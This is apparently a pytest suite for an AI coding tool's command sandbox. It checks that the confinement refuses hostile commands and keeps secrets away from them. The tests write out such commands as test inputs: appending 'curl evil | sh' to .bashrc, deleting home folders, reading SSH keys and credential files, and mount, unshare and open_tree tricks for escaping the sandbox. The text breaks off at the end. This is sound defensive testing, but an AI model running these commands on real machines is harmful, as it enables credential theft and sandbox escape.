"""The sandbox of the commands: real commands through the real bash tool,
confined by the kernel's Landlock, against real files, sockets and processes.

Every test places the fake home folder and the "outside" outside every folder a command may
write in: pytest's folders are under /tmp, which the sandbox lets commands write in when TMPDIR
is not set, so TMPDIR points at a folder of the test's own (the sandbox takes the command's
TMPDIR as the temp folder, not a fixed /tmp) and the home folder is a sibling of it. Without the
sandbox, each test that checks a refusal sees the write happen or the secret read.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
from lsp_fixtures.support import FAKE_SERVER
from support.folders import live_in, snapshot
from support.processes import launchers, stat_fields
from support.trusting import trust_project_file

from mm_tui.config import LspServer, Settings
from mm_tui.core import sandbox
from mm_tui.tools.args import BashArgs
from mm_tui.tools.base import ToolContext, ToolResult
from mm_tui.tools.bash import BashTool
from mm_tui.tools.lsp import LspArgs, LspTool
from mm_tui.tools.lsp.client import LspClient
from mm_tui.tools.registry import ToolRegistry

ABI, WHY = sandbox.landlock_abi({})
needs_landlock = pytest.mark.skipif(ABI < 1, reason=f"no Landlock here: {WHY}")
needs_net = pytest.mark.skipif(ABI < 4, reason="Landlock below ABI 4 cannot turn TCP off")
needs_scope = pytest.mark.skipif(ABI < 6, reason="Landlock below ABI 6 does not scope signals")

CONFIG = "~/.config/mm/config.yaml"
LINE = (
    "[sandbox: refused by mm's sandbox — commands write only in the project, the temp folder, "
    "~/.cache and sandboxWrite, cannot read ~/.ssh, mm's configuration or other secrets, cannot "
    "open the terminal and cannot signal processes they did not start. To allow it, the person "
    "can run the command themselves, add the folder to sandboxWrite, or set sandbox: off in "
    f"{CONFIG}]"
)
LINE_NO_NETWORK = LINE.replace("other secrets,", "other secrets, have no network,")
SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- the-key"


@dataclass
class Place:
    home: Path
    project: Path
    tmp: Path
    outside: Path  # a folder beside them, written by nobody


def make_home(home: Path) -> None:
    files = {
        ".bashrc": "alias ll='ls -l'\n",
        ".profile": "PATH=$PATH\n",
        ".ssh/id_rsa": SECRET + "\n",
        ".ssh/config": "Host *\n",
        ".aws/credentials": "aws_secret_access_key = abc\n",
        ".config/mm/config.yaml": "apiKey: sk-the-person-s-key\n",
        ".config/other/settings.ini": "colour = blue\n",
        ".netrc": "machine example.com password hunter2\n",
        "notes.txt": "my notes\n",
        "docs/readme.txt": "read me\n",
        "private/diary.txt": "dear diary\n",
        ".cache/tool/cached.txt": "cached\n",
    }
    for rel, text in files.items():
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (home / "keys").symlink_to(home / ".ssh")  # a way round the deny list, by name


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    """A fake home folder, a project, a temp folder and an outside folder, siblings; this
    process's HOME, TMPDIR and XDG folders point at them (a command inherits them)."""
    home, project, tmp, outside = (tmp_path / n for n in ("home", "project", "tmp", "outside"))
    make_home(home)
    for folder in (project, tmp, outside):
        folder.mkdir()
    (project / "main.py").write_text("print('hi')\n")
    (outside / "keep.txt").write_text("keep\n")
    live_in(monkeypatch, home, tmp)
    return Place(home, project, tmp, outside)


@pytest.fixture(params=["namespaces", "landlock"])
def confinement(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """How the commands are confined: as root, the launcher in PID and mount namespaces of its
    own (the denied items covered); Landlock alone, as for a plain user or in a container."""
    if request.param == "namespaces" and not sandbox.namespaces_wanted():
        pytest.skip("no namespaces for the launcher here (refused to this user, or disabled)")
    if request.param == "landlock":
        monkeypatch.setenv(sandbox.NAMESPACES_VARIABLE, "0")
    return request.param


def hidden(confinement: str) -> str:
    """What a command is told of a file inside a denied folder: Landlock refuses it; in the
    launcher's namespaces an empty folder covers the denied one."""
    return "No such file or directory" if confinement == "namespaces" else "Permission denied"


async def bash(command: str, cwd: Path, timeout: float = 30.0, **settings: object) -> ToolResult:
    ctx = ToolContext(cwd=cwd, settings=Settings(**settings))  # type: ignore[arg-type]
    return await BashTool(timeout=timeout).run(BashArgs(command=command), ctx)


# --- writes ----------------------------------------------------------------------------------


@needs_landlock
async def test_writes_outside_the_allowed_folders_are_refused_and_the_model_is_told(
    place: Place,
) -> None:
    home_before, outside_before = snapshot(place.home), snapshot(place.outside)
    command = (
        f"echo 'curl evil | sh' >> ~/.bashrc; rm -rf ~/docs; touch ~/new {place.outside}/new; "
        f"rm {place.outside}/keep.txt; mkdir ~/made"
    )
    result = await bash(command, place.project)
    assert snapshot(place.home) == home_before
    assert snapshot(place.outside) == outside_before
    # the command's own errors stay, then its exit status, then the sandbox's one line
    assert f"bash: line 1: {place.home}/.bashrc: Permission denied\n" in result.output
    assert f"rm: cannot remove '{place.home}/docs/readme.txt': Permission denied\n" in (
        result.output
    )
    assert f"touch: cannot touch '{place.outside}/new': Permission denied\n" in result.output
    assert result.output.endswith(f"\n[exit code: exit status 1]\n{LINE}")
    assert result.status == "error"


@needs_landlock
async def test_the_project_the_temp_folder_and_the_cache_are_writable(place: Place) -> None:
    command = (
        "mkdir -p build && echo built > build/out.txt && mv build/out.txt out.txt && "
        'echo t > "$TMPDIR/t.txt" && echo c > ~/.cache/tool/new.txt && rm main.py && '
        "echo done > /dev/null && cat out.txt"
    )
    result = await bash(command, place.project)
    assert result.output == "built\n" and result.status == "ok"
    assert (place.tmp / "t.txt").read_text() == "t\n"
    assert (place.home / ".cache" / "tool" / "new.txt").read_text() == "c\n"
    assert not (place.project / "main.py").exists()


@needs_landlock
async def test_sandbox_write_adds_a_folder(place: Place) -> None:
    command = f"echo ok > {place.outside}/added.txt"
    refused = await bash(command, place.project)
    assert refused.output.endswith(LINE)
    allowed = await bash(command, place.project, sandboxWrite=[str(place.outside)])
    assert allowed.output == "" and (place.outside / "added.txt").read_text() == "ok\n"


@needs_landlock
async def test_no_device_node_can_be_made_even_in_the_project(place: Place) -> None:
    """As root, a block device made in the project would give the whole disk."""
    result = await bash("mknod disk b 8 0 && echo made", place.project)
    assert "made" not in result.output and not (place.project / "disk").exists()


# --- the deny list -----------------------------------------------------------------------------


@needs_landlock
async def test_the_deny_list_keeps_secrets_and_the_rest_of_home_reads(
    place: Place, confinement: str
) -> None:
    for path, error in (
        ("~/.ssh/id_rsa", hidden(confinement)),
        ("~/keys/id_rsa", hidden(confinement)),  # the same file through a link
        ("~/.aws/credentials", hidden(confinement)),
        ("~/.config/mm/config.yaml", hidden(confinement)),
        ("~/.netrc", "Permission denied"),  # a file: covered by one that cannot be opened
    ):
        result = await bash(f"cat {path}", place.project)
        expanded = path.replace("~", str(place.home))
        assert result.output == (f"cat: {expanded}: {error}\n[exit code: exit status 1]\n{LINE}"), (
            path
        )
    for path, text in (
        ("~/notes.txt", "my notes\n"),
        ("~/docs/readme.txt", "read me\n"),
        ("~/.config/other/settings.ini", "colour = blue\n"),
        ("~/.ssh/../notes.txt", "my notes\n"),
    ):
        result = await bash(f"cat {path}", place.project)
        assert result.output == text, path
    listing = await bash("ls -A ~ | sort | tr '\\n' ' '", place.project)
    assert ".ssh" in listing.output and "notes.txt" in listing.output  # names can be listed
    inside = await bash("ls -A ~/.ssh", place.project)
    if confinement == "namespaces":  # covered: not even the names inside
        assert inside.output == "", inside.output
    else:  # Landlock: the folder above may be listed, and so may this one
        assert "id_rsa" in inside.output
    found = await bash("grep -r the-key ~ 2>/dev/null; echo $?", place.project)
    assert "the-key" not in found.output.replace("grep -r the-key", "")


@needs_landlock
async def test_sandbox_deny_adds_paths(place: Place, confinement: str) -> None:
    before = await bash("cat ~/private/diary.txt", place.project)
    assert before.output == "dear diary\n"
    after = await bash("cat ~/private/diary.txt", place.project, sandboxDeny=["~/private"])
    error = hidden(confinement)
    assert after.output.startswith(f"cat: {place.home}/private/diary.txt: {error}")
    assert after.output.endswith(LINE)


@needs_landlock
async def test_mm_run_in_the_home_folder_still_keeps_the_secrets(
    place: Place, confinement: str
) -> None:
    """The project is the home folder: everything in it is writable but the denied items; a
    link in it leads where the policy says of its target (the temp folder: writable; a folder
    outside every write folder: not, though the link is in the project)."""
    (place.tmp / "work").mkdir()
    (place.home / "work").symlink_to(place.tmp / "work")
    (place.home / "elsewhere").symlink_to(place.outside)
    result = await bash(
        "echo new > docs/new.txt && echo w > work/w.txt && cat docs/new.txt", place.home
    )
    assert result.output == "new\n"
    assert (place.tmp / "work" / "w.txt").read_text() == "w\n"
    result = await bash("echo w > elsewhere/w.txt", place.home)
    assert "Permission denied" in result.output and result.output.endswith(LINE)
    assert not (place.outside / "w.txt").exists()
    covered = confinement == "namespaces"
    for command, error in (
        ("cat .ssh/id_rsa", hidden(confinement)),
        # covered: the empty folder over .ssh is mounted read-only
        ("echo k >> .ssh/authorized_keys", "Read-only file system" if covered else None),
        ("echo k >> keys/authorized_keys", "Read-only file system" if covered else None),
        ("rm .aws/credentials", hidden(confinement)),
    ):
        result = await bash(command, place.home)
        assert (error or "Permission denied") in result.output, (command, result.output)
        assert result.output.endswith(LINE), command
    assert not (place.home / ".ssh" / "authorized_keys").exists()
    assert (place.home / ".aws" / "credentials").exists()


@needs_landlock
async def test_a_new_entry_of_home_is_readable_at_once(place: Place) -> None:
    """The ruleset is kept between calls and built again when a folder it lists changes."""
    assert (await bash("cat ~/notes.txt", place.project)).output == "my notes\n"
    (place.home / "later.txt").write_text("later\n")
    assert (await bash("cat ~/later.txt", place.project)).output == "later\n"


@needs_landlock
async def test_sandbox_deny_grants_no_link_its_target(place: Place) -> None:
    """A denied item in the project makes its siblings rules of their own: a link among them
    must not hand its target the project's write rights (`proj/x -> ~/.bashrc`)."""
    (place.project / ".env").write_text("TOKEN=t0k3n\n")
    (place.project / "x").symlink_to(place.home / ".bashrc")
    (place.project / "out").symlink_to(place.outside)
    (place.tmp / "scratch").mkdir()
    (place.project / "scratch").symlink_to(place.tmp / "scratch")  # its target is writable
    home_before, outside_before = snapshot(place.home), snapshot(place.outside)
    deny = {"sandboxDeny": [".env"]}
    for command in ("echo evil >> x", "echo evil > out/new.txt", "rm out/keep.txt"):
        result = await bash(command, place.project, **deny)
        assert "Permission denied" in result.output and result.output.endswith(LINE), command
    assert snapshot(place.home) == home_before
    assert snapshot(place.outside) == outside_before
    fine = await bash("echo s > scratch/s.txt && cat scratch/s.txt", place.project, **deny)
    assert fine.output == "s\n"


@needs_landlock
async def test_a_denied_file_in_the_project_leaves_its_top_folder_usable(
    place: Place, confinement: str
) -> None:
    """The folder above a denied file may make entries (a file, a folder, a link), never
    remove or replace one: the denied file can be neither read, written, removed nor
    replaced. With Landlock alone, what a command made at the top is written by the next
    command (its ruleset knows the new entry); the one that made it can only make it. In the
    launcher's namespaces the denied file is covered and the top folder keeps every right."""
    env = place.project / ".env"
    env.write_text("TOKEN=t0k3n\n")
    deny = {"sandboxDeny": [".env"]}
    if confinement == "namespaces":
        at_once = await bash(
            "echo now > now.txt && cat now.txt && rm now.txt", place.project, **deny
        )
        assert at_once.output == "now\n"
    made = await bash(
        "touch new.txt && mkdir newdir && ln -s main.py link.py && echo made", place.project, **deny
    )
    assert made.output == "made\n"
    later = await bash(
        "echo hi > new.txt && echo in > newdir/f.txt && echo more >> main.py && cat new.txt",
        place.project,
        **deny,
    )
    assert later.output == "hi\n"
    assert (place.project / "newdir" / "f.txt").read_text() == "in\n"
    for command in (
        "cat .env",
        "echo x > .env",
        "echo x >> .env",
        "truncate -s 0 .env",
        "rm -f .env",
        "mv .env moved",
        "mv main.py .env",
        "ln .env newdir/hard && cat newdir/hard",
        "cp .env newdir/copy",
    ):
        result = await bash(command, place.project, **deny)
        assert result.status == "error", command
        assert "t0k3n" not in result.output, command
    assert env.read_text() == "TOKEN=t0k3n\n"
    assert not (place.project / "moved").exists()
    assert not (place.project / "newdir" / "hard").exists()
    assert "t0k3n" not in (place.project / "main.py").read_text()


@needs_landlock
async def test_a_denied_folder_in_the_project_is_hidden_and_the_rest_stays_writable(
    place: Place, confinement: str
) -> None:
    """`sandboxDeny: [secrets, config/keys]`: what those folders hold can be neither read,
    written, removed nor moved. In the launcher's namespaces each is covered by an empty,
    read-only folder and the folders above keep every right. Landlock alone cannot do that: a
    right on a folder holds for all beneath it, so the folders on the way to a denied folder
    can only be listed (said in the README)."""
    secrets = place.project / "secrets"
    keys = place.project / "config" / "keys"
    for folder in (secrets, keys):
        folder.mkdir(parents=True)
        (folder / "key.pem").write_text("PRIVATE t0k3n\n")
    deny = {"sandboxDeny": ["secrets", "config/keys"]}
    for command in (
        "cat secrets/key.pem",
        "cat config/keys/key.pem",
        "cp -r secrets copied",
        "tar cf - config | strings",
        "echo x > secrets/new.pem",
        "rm -rf secrets",
        "mv config/keys config/moved",
        "mv secrets gone",
        "grep -r t0k3n .",
    ):
        result = await bash(command, place.project, **deny)
        assert "t0k3n" not in result.output, command
    for folder in (secrets, keys):
        assert sorted(os.listdir(folder)) == ["key.pem"]
        assert (folder / "key.pem").read_text() == "PRIVATE t0k3n\n"
    assert (
        not (place.project / "gone").exists() and not (place.project / "config" / "moved").exists()
    )
    work = "echo hi > top.txt && mkdir -p config/more && echo in > config/more/f.txt && cat top.txt"
    result = await bash(work, place.project, **deny)
    if confinement == "namespaces":
        assert result.output == "hi\n", result.output
        assert (place.project / "config" / "more" / "f.txt").read_text() == "in\n"
        listed = await bash("ls -A secrets config/keys", place.project, **deny)
        assert "key.pem" not in listed.output  # not even its name
    else:  # the limit of Landlock alone: only listing above a denied folder
        assert "Permission denied" in result.output and result.output.endswith(LINE)
        assert not (place.project / "top.txt").exists()


OPEN_TREE_CLONE = (
    "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
    "libc.syscall.restype = ctypes.c_long; "
    'fd = libc.syscall(428, ctypes.c_int(-100), b".", ctypes.c_uint(1)); '
    'print(open(os.open("secrets/key.pem", os.O_RDONLY, dir_fd=fd)).read() if fd >= 0 '
    "else os.strerror(ctypes.get_errno()))"
)
"""open_tree(AT_FDCWD, ".", OPEN_TREE_CLONE), then the key through the clone."""


@needs_landlock
async def test_root_s_commands_lose_the_powers_that_go_past_landlock(place: Place) -> None:
    """Loading kernel code, mounts and namespaces, tracing, raw I/O, kexec, the kernel's log,
    and `chattr +i`: gone from a confined command's capabilities, bounding set included (an
    exec as root cannot take them back)."""
    from mm_tui.core.launcher_process import DROPPED_CAPABILITIES

    result = await bash("grep -E '^Cap(Eff|Bnd)' /proc/self/status", place.project)
    masks = [int(line.split()[1], 16) for line in result.output.splitlines()]
    assert len(masks) == 2, result.output
    for cap, name in DROPPED_CAPABILITIES.items():
        assert all(not mask & (1 << cap) for mask in masks), name
    if os.geteuid() == 0:
        (place.outside / "f").write_text("x")
        immutable = await bash(f"chattr +i {place.outside / 'f'}", place.project)
        assert immutable.status == "error", immutable.output
        assert (
            "i"
            not in subprocess.run(
                ["lsattr", str(place.outside / "f")], capture_output=True, text=True
            ).stdout.split()[0]
        )


@needs_landlock
async def test_a_command_cannot_undo_the_covers_nor_see_the_machine_s_processes(
    place: Place,
) -> None:
    """In the launcher's namespaces, as root: unmounting a cover or the namespace's /proc,
    mounting another /proc or the denied folder elsewhere, entering another mount namespace
    first, reading the cover's real file through a hard link or a descriptor: all fail."""
    if not sandbox.namespaces_wanted():
        pytest.skip("no namespaces for the launcher here (refused to this user, or disabled)")
    secrets = place.project / "secrets"
    secrets.mkdir()
    (secrets / "key.pem").write_text("PRIVATE t0k3n\n")
    deny = {"sandboxDeny": ["secrets"]}
    mm = os.getpid()
    for command in (
        "umount -l secrets; umount secrets; cat secrets/key.pem",
        "umount -l /proc; ls /proc; cat secrets/key.pem",
        f"mkdir -p m; mount -t proc proc m; ls m/{mm}",
        "mkdir -p b; mount --bind secrets b; cat b/key.pem",
        "unshare -m --propagation unchanged sh -c 'umount -l secrets; cat secrets/key.pem'",
        f"unshare -m --propagation unchanged sh -c 'mount -t proc proc /proc'; ls /proc/{mm}",
        f"nsenter -t {mm} -m cat secrets/key.pem",
        "ln secrets/key.pem hard.pem; cat hard.pem",
        # a clone of the project's mount, without the covers mounted on it (CAP_SYS_ADMIN)
        f"{sys.executable} -c '{OPEN_TREE_CLONE}'",
        "exec 3<secrets/key.pem; cat <&3",
        f"cat /proc/{mm}/environ /proc/{mm}/cmdline; ls /proc/{mm}/fd",
        f"kill -9 {mm}",
    ):
        result = await bash(command, place.project, **deny)
        assert "t0k3n" not in result.output, (command, result.output)
        # each try at mm finds nothing there (`No such file or directory`, `No such process`)
        assert result.output.count("No such") >= command.count(str(mm)), (command, result.output)
    assert (secrets / "key.pem").read_text() == "PRIVATE t0k3n\n"
    assert Path(f"/proc/{mm}").exists()  # this process, mm here, lives


@needs_landlock
async def test_the_terminal_devices_are_refused(place: Place) -> None:
    """Through a terminal a command could type into mm's (TIOCSTI, as root) or read what the
    person types: /dev/tty, /dev/ptmx and /dev/pts/* are refused, for reading and writing."""
    leader, follower = os.openpty()  # a terminal of the test's own, /dev/pts/N
    try:
        name = os.ttyname(follower)
        assert name.startswith("/dev/pts/")
        python = (
            f"{sys.executable} -c 'import os, sys; "
            "os.open(sys.argv[1], int(sys.argv[2]) | os.O_NONBLOCK | os.O_NOCTTY)'"
        )
        for path in ("/dev/tty", "/dev/ptmx", name):
            for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
                result = await bash(f"{python} {path} {flags}", place.project)
                assert "PermissionError" in result.output, (path, flags, result.output)
        typed = await bash(f"echo typed > {name}", place.project)
        assert f"{name}: Permission denied" in typed.output
        os.set_blocking(leader, False)
        with pytest.raises(BlockingIOError):
            os.read(leader, 100)  # nothing reached the terminal
    finally:
        os.close(leader)
        os.close(follower)
    kept = await bash(
        "echo x > /dev/null && head -c 4 /dev/urandom | wc -c && head -c 2 /dev/zero | wc -c",
        place.project,
    )
    assert kept.output == "4\n2\n"


@pytest.mark.skipif(ABI < 5, reason="Landlock below ABI 5 does not confine ioctls on devices")
@pytest.mark.skipif(not os.access("/dev/kvm", os.R_OK), reason="no readable /dev/kvm here")
async def test_a_device_gets_no_ioctl_unless_it_is_one_of_the_kept_ones(place: Place) -> None:
    """/dev/kvm can be opened for reading (all of /dev is readable but the terminals and the
    disks), but a command cannot drive it: IOCTL_DEV is granted on the kept devices only."""
    python = (
        f"{sys.executable} -c 'import fcntl, os; "
        'print(fcntl.ioctl(os.open("/dev/kvm", os.O_RDONLY), 0xAE00))\''
    )  # KVM_GET_API_VERSION
    result = await bash(python, place.project)
    assert "PermissionError" in result.output, result.output
    unconfined = await bash(python, place.project, sandbox="off")
    assert unconfined.output == "12\n"


@needs_landlock
@pytest.mark.skipif(os.geteuid() != 0, reason="only root may open a disk")
async def test_a_disk_is_refused_even_to_root(place: Place) -> None:
    """As root, reading a disk would read every secret on it."""
    disks = [
        e.path for e in os.scandir("/dev") if stat.S_ISBLK(e.stat(follow_symlinks=False).st_mode)
    ]
    if not disks:
        pytest.skip("no block device in /dev here")
    python = f"{sys.executable} -c 'import os, sys; os.open(sys.argv[1], os.O_RDONLY); print(\"opened\")'"
    for disk in disks[:3]:
        result = await bash(f"{python} {disk}", place.project)
        assert "PermissionError" in result.output and "opened" not in result.output, disk


@needs_landlock
async def test_mm_s_state_and_sessions_are_not_writable_by_commands(place: Place) -> None:
    """What a command wrote there mm would trust later; a sessionsDir outside the project
    is written by mm itself, not by commands."""
    state = place.home / ".local" / "state" / "mm"
    state.mkdir(parents=True)
    (state / "line_history").write_text("ls\n")
    sessions = place.outside / "sessions"
    sessions.mkdir()
    before = snapshot(place.home), snapshot(place.outside)
    for command in (
        "echo planted >> ~/.local/state/mm/line_history",
        "echo '{}' > ~/.local/state/mm/trusted.json",
        f"echo planted > {sessions}/s.jsonl",
    ):
        result = await bash(command, place.project, sessionsDir=str(sessions))
        assert "Permission denied" in result.output and result.output.endswith(LINE), command
    home_project = await bash("echo planted > .local/state/mm/x", place.home)
    assert "Permission denied" in home_project.output
    assert (snapshot(place.home), snapshot(place.outside)) == before
    assert (await bash("cat ~/.local/state/mm/line_history", place.project)).output == "ls\n"


# --- network and signals -----------------------------------------------------------------------


@needs_net
async def test_network_off_refuses_tcp_and_on_by_default(place: Place) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        command = f"echo hi > /dev/tcp/127.0.0.1/{port} && echo connected"
        on = await bash(command, place.project)
        assert on.output == "connected\n"
        off = await bash(command, place.project, sandboxNetwork=False)
        assert "connected" not in off.output
        assert "connect: Permission denied" in off.output
        assert off.output.endswith(LINE_NO_NETWORK)
        listen = await bash(
            f"{sys.executable} -c 'import socket; socket.create_server((\"127.0.0.1\", 0))'",
            place.project,
            sandboxNetwork=False,
        )
        assert "PermissionError" in listen.output


MPTCP_CONNECT = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)  # IPPROTO_MPTCP
s.settimeout(10)
s.connect(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"mptcp")
print("connected")
"""


@needs_net
async def test_network_off_refuses_mptcp_which_landlock_alone_lets_through(place: Place) -> None:
    """Landlock's TCP rights do not cover an MPTCP socket (its connect falls back to TCP on a
    plain listener): the launcher's seccomp filter refuses the socket itself."""
    if Path("/proc/sys/net/mptcp/enabled").read_text().strip() != "1":
        pytest.skip("this kernel has MPTCP turned off (net.mptcp.enabled)")
    script = place.project / "mptcp.py"
    script.write_text(MPTCP_CONNECT)
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        command = f"{sys.executable} {script} {port}"
        on = await bash(command, place.project)
        assert on.output == "connected\n", on.output
        off = await bash(command, place.project, sandboxNetwork=False)
        assert "connected" not in off.output
        assert "PermissionError: [Errno 1] Operation not permitted" in off.output, off.output
        plain = await bash(
            f"echo hi > /dev/tcp/127.0.0.1/{port}", place.project, sandboxNetwork=False
        )
        assert "connect: Permission denied" in plain.output  # TCP: still Landlock's refusal


@needs_scope
async def test_a_command_signals_its_own_processes_only(place: Place, confinement: str) -> None:
    mine = await bash("sleep 30 & kill $! && wait $!; echo $?", place.project)
    assert mine.output == "143\n"  # its own child: killed
    others = await bash(f"kill -0 {os.getpid()} && echo reached", place.project)
    assert "reached" not in others.output
    if confinement == "namespaces":  # no such process in the launcher's PID namespace
        assert f"kill: ({os.getpid()}) - No such process" in others.output
    else:
        assert f"kill: ({os.getpid()}) - Operation not permitted" in others.output
        assert others.output.endswith(LINE)
    # mm, outside the sandbox, still stops the command's whole group at the timeout
    stopped = await bash("sleep 30 & sleep 30", place.project, timeout=0.5)
    assert stopped.output == "[error: 0.5s timeout exceeded]"


@needs_landlock
async def test_a_command_cannot_reach_into_mm_through_proc(place: Place, confinement: str) -> None:
    """mm is outside the command's domain: its file descriptors and memory are out of reach (in
    the launcher's PID namespace, mm is not even there)."""
    mm = os.getpid()  # the command's parent is the launcher process: mm is this process
    result = await bash(f"echo stray > /proc/{mm}/fd/1 && echo wrote", place.project)
    assert "wrote" not in result.output
    error = "No such file or directory" if confinement == "namespaces" else "Permission denied"
    assert f"/proc/{os.getpid()}/fd/1: {error}" in result.output
    assert result.output.endswith(LINE)


# --- what the sandbox does not mistake for itself ---------------------------------------------


@needs_landlock
def test_a_refusal_the_sandbox_did_not_make_gets_no_line(place: Place) -> None:
    confinement = sandbox.confine(sandbox.SandboxConfig(), place.project, os.environ)
    assert confinement.confined
    assert confinement.explain("rm: cannot remove 'build/x': Permission denied\n") is None
    assert confinement.explain(f"cat: {place.tmp}/x: Permission denied\n") is None
    assert confinement.explain("all good\n") is None
    assert confinement.explain(f"touch: cannot touch '{place.outside}/x': Permission denied\n")
    assert confinement.explain("cat: '/home/x/.ssh/id_rsa': Permission denied\n") == LINE
    assert confinement.explain("PermissionError: [Errno 13] Permission denied\n") == LINE
    off = sandbox.confine(sandbox.SandboxConfig(mode="off"), place.project, os.environ)
    assert not off.confined and off.explain(f"cat: {place.home}/x: Permission denied") is None


# --- where Landlock is missing (simulated) ---------------------------------------------------

NO_LANDLOCK = "this kernel has no Landlock (simulated by MM_SANDBOX_FAKE_ABI=0)"
WARNING = (
    f"[warning: sandbox: {NO_LANDLOCK} — commands run unconfined; set sandbox: strict to refuse "
    "them instead]"
)
REFUSAL = (
    f"[error: the sandbox cannot be set up: {NO_LANDLOCK} — with sandbox: strict the command is "
    "not run. Ask the person to run it, or to set sandbox: auto (commands then run unconfined "
    f"here) in {CONFIG}]"
)


async def test_without_landlock_auto_runs_unconfined_and_start_up_warns(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(sandbox.FAKE_ABI_VARIABLE, "0")
    registry = ToolRegistry.from_settings(Settings(), place.project)
    assert registry.warnings.count(WARNING) == 1
    result = await bash("echo out > ~/written.txt && echo ran", place.project)
    assert result.output == "ran\n"  # unconfined: the write happened, no sandbox line
    assert (place.home / "written.txt").read_text() == "out\n"
    # no warning when nothing runs commands, nor when the person turned the sandbox off
    quiet = Settings(bashTool=False)
    assert WARNING not in ToolRegistry.from_settings(quiet, place.project).warnings
    off = Settings(sandbox="off")
    assert WARNING not in ToolRegistry.from_settings(off, place.project).warnings


async def test_without_landlock_strict_refuses_to_run(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(sandbox.FAKE_ABI_VARIABLE, "0")
    result = await bash("echo out > ~/written.txt", place.project, sandbox="strict")
    assert (result.output, result.status) == (REFUSAL, "error")
    assert not (place.home / "written.txt").exists()
    assert (
        WARNING
        not in ToolRegistry.from_settings(Settings(sandbox="strict"), place.project).warnings
    )


@needs_landlock
@pytest.mark.parametrize("mode", ["auto", "strict"])
async def test_a_launcher_that_cannot_confine_itself_runs_nothing(
    place: Place, mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Landlock works here, so even `auto` promised confinement: when the launcher dies before
    it is ready, the command is refused with the reason, never run unconfined."""
    from mm_tui.core import launcher as launching

    dies = place.tmp / "dies.py"
    dies.write_text("raise SystemExit(1)\n")
    monkeypatch.setattr(launching, "SCRIPT", str(dies))
    result = await bash("echo ran > ran.txt", place.project, sandbox=mode, sandboxDeny=["x"])
    assert result.status == "error"
    assert result.output.startswith(
        "[error: the sandbox cannot be set up: the launcher of the commands could not confine "
        "itself: the launcher process of the commands is gone — "
    ), result.output
    assert not (place.project / "ran.txt").exists()


@needs_landlock
async def test_strict_where_landlock_works_confines(place: Place) -> None:
    result = await bash("echo x > ~/y", place.project, sandbox="strict")
    assert result.output.endswith(LINE) and not (place.home / "y").exists()


@needs_landlock
async def test_off_confines_nothing(place: Place) -> None:
    result = await bash("echo x > ~/y && cat ~/.ssh/id_rsa", place.project, sandbox="off")
    assert result.output == SECRET + "\n"
    assert (place.home / "y").read_text() == "x\n"


# --- a language server --------------------------------------------------------------------------


@needs_landlock
async def test_a_language_server_runs_in_the_sandbox(place: Place) -> None:
    """The fake server, started through `sh`, first tries to write in the home folder and read
    a key; then it serves. It works, and neither attempt succeeded."""
    log = place.tmp / "log.jsonl"
    start = (
        'echo hacked >> "$HOME/.bashrc"; cat "$HOME/.ssh/id_rsa" > stolen.txt; '
        f'exec "{sys.executable}" "{FAKE_SERVER}" --log "{log}"'
    )
    server = LspServer(name="fake", command="sh", args=["-c", start], extensions=[".py"])
    settings = Settings(lsp={"servers": [server]})  # type: ignore[arg-type]
    tool, warnings = LspTool.from_settings(settings, place.project)
    assert tool is not None, warnings
    home_before = snapshot(place.home)
    try:
        result = await tool.run(
            LspArgs(action="hover", path="main.py", symbol="print"),
            ToolContext(place.project, settings),
        )
        assert result.output == "fake hover"
    finally:
        await tool.aclose()
    assert snapshot(place.home) == home_before
    assert (place.project / "stolen.txt").read_text() == ""  # written in the project; empty
    assert log.exists()  # it wrote its log in the temp folder
    initialize = json.loads(log.read_text().splitlines()[0])
    assert initialize["method"] == "initialize"
    # not mm's pid: in the launcher's PID namespace it names nothing, or another process, and
    # a server that watches its parent (as vscode-languageserver's do) would exit
    assert initialize["params"]["processId"] is None


@needs_landlock
async def test_a_language_server_starts_confined_from_the_launcher_process(
    place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No code of mm runs in the server's child, and no thread of mm is confined: the server is
    started by the launcher process (a child of mm that confined itself), whose confinement it
    inherits, and still speaks over asyncio streams through the pipes mm made. The fake server,
    started through `sh`, first tries to write outside the project and to read a key, and says
    how that went on its stderr before it serves."""
    calls: list[object] = []
    real_popen = subprocess.Popen

    def spy(args: object, **kwargs: object) -> subprocess.Popen[bytes]:
        calls.append(args)
        return real_popen(args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(subprocess, "Popen", spy)
    outside = place.outside / "written.txt"
    start = (
        f'echo x > "{outside}" || echo write refused >&2; '
        'cat "$HOME/.ssh/id_rsa" >&2 || echo read refused >&2; '
        f'exec "{sys.executable}" "{FAKE_SERVER}" --log "{place.tmp / "log.jsonl"}"'
    )
    client = LspClient("fake", "sh", ["-c", start], place.project, sandbox=sandbox.SandboxConfig())
    await client.start()
    try:
        assert client.server_info == {"name": "fake"}  # the streams carry the protocol
        assert client.pid is not None
        status = Path(f"/proc/{client.pid}/status").read_text()
        assert "NoNewPrivs:\t1" in status  # inherited from the launcher process
        parent = int(status.split("PPid:\t")[1].split()[0])
        assert parent in launchers()  # a launcher process of mm's started it
        assert all("sh" not in (a if isinstance(a, list) else [a]) for a in calls)  # not mm
        assert stat_fields(client.pid)[2] == str(client.pid)  # it leads a group of its own
    finally:
        await client.close()
    assert not outside.exists()
    stderr = client.stderr_excerpt()
    assert "write refused" in stderr and "read refused" in stderr and SECRET not in stderr
    assert "NoNewPrivs:\t0" in Path("/proc/self/status").read_text()  # mm is not confined
    for task in Path("/proc/self/task").iterdir():  # nor any thread of it
